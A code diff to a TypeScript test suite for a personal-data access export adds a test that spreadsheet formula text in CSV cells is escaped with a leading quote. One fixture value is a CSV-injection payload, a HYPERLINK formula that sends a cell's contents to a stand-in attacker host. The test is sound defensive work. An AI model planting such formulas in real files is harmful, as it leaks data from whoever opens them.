@@ -133,7 +133,8 @@ describe('access package', () => {
       expect([file, json.length, csv.length - 1]).toEqual([file, count, count]);
       // The CSV's header is the JSON's keys, and each line the same record.
       expect(csv[0]).toEqual(Object.keys(json[0]!));
-      expect(csv[1]).toEqual(Object.values(json[0]!).map((v) => (v === null ? '' : String(v))));
+      // ...except that text a spreadsheet would take for a formula (a phone's "+86") is quoted.
+      expect(csv[1]).toEqual(Object.values(json[0]!).map((v) => (v === null ? '' : typeof v === 'string' && /^[=+\-@\t\r]/.test(v) ? `'${v}` : String(v))));
     }
     expect(JSON.parse(texts.get('customer-accounts/contact.json')!)).toEqual([{ fullName: NAME, phone: '+86 138 0000 1111' }]);
     expect(parseCsv(texts.get('redis-sessions/cookie.csv')!)[1]).toEqual(['1', 'ck-1111a,ck-1111b']);
@@ -148,6 +149,23 @@ describe('access package', () => {
     const everything = [...texts.values()].join('\n');
     expect(everything).toContain(subject.email);
     for (const trace of [other.email, '2222', other.requestId]) expect(everything).not.toContain(trace);
+  });
+
+  test('when a record holds text a spreadsheet would run as a formula, then the CSV cell begins with a single quote and the JSON keeps the value', async () => {
+    const email = newEmail();
+    const subjectId = await createSubject(db, cipher, email);
+    const formula = '=HYPERLINK("https://evil.example/?leak="&A1,"click")';
+    await db.customerAccount.create({ data: { email, fullName: formula, phone: '+86 138 0000 3333', companyName: '@SUM(1+1)', plan: '-2+3' } });
+    const requestId = await createRequest(db, subjectId, 'ACCESS');
+    const { row } = await preparePackage(deps, requestId, ['customer-accounts'], email, newLinkSecret().hash);
+    const texts = await unzipped(row);
+    expect(parseCsv(texts.get('customer-accounts/contact.csv')!)[1]).toEqual([`'${formula}`, "'+86 138 0000 3333"]);
+    expect(parseCsv(texts.get('customer-accounts/corporate.csv')!)[1]).toEqual(["'@SUM(1+1)"]);
+    expect(parseCsv(texts.get('customer-accounts/account.csv')!)[1]?.[1]).toBe("'-2+3");
+    expect(JSON.parse(texts.get('customer-accounts/contact.json')!)).toEqual([{ fullName: formula, phone: '+86 138 0000 3333' }]);
+    // Tab and carriage return start a formula in some spreadsheets too; a plain word or number is left alone.
+    const { csvLine } = await import('../../access-package/csv');
+    expect(csvLine(['\tcmd', '\r=1', 'plain', -5, 'a-b'])).toBe(`'\tcmd,"'\r=1",plain,-5,a-b\r\n`);
   });
 
   test('when the reply is retried, then the package is built once, the mailed link is the live one, an overlapping attempt cannot break it, and a sent reply is never sent again', async () => {
